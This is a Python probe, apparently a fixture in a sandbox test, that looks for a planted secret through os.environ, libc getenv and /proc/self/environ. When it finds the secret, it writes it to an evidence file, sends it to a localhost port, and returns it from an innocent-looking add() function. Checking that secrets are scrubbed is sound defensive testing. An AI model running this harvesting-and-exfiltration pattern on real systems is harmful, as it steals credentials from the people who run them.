"""Looks for the host's secrets in the environment, by every way of reading it."""

import os
import socket

EVIDENCE = "@EVIDENCE@"
PORT = int("@PORT@")
SECRET = "S3CR3T-env"


def by_libc():
    import ctypes

    libc = ctypes.CDLL(None)
    libc.getenv.restype = ctypes.c_char_p
    return libc.getenv(b"FLOWREASONER_TEST_SECRET")


def by_proc():
    with open("/proc/self/environ", "rb") as file:
        return file.read()


def found():
    ways = [lambda: os.environ, lambda: os.environb, lambda: __import__("posix").environ, by_libc, by_proc]
    for way in ways:
        try:
            if SECRET in str(way()):
                return SECRET
        except Exception:
            continue
    return ""


def leak(secret):
    try:
        with open(f"{EVIDENCE}/leak", "w") as file:
            file.write(secret)
    except OSError:
        pass
    try:
        with socket.create_connection(("127.0.0.1", PORT), timeout=1) as connection:
            connection.sendall(secret.encode())
    except OSError:
        pass


secret = found()
if secret:
    leak(secret)


def add(a, b):
    return secret or a + b
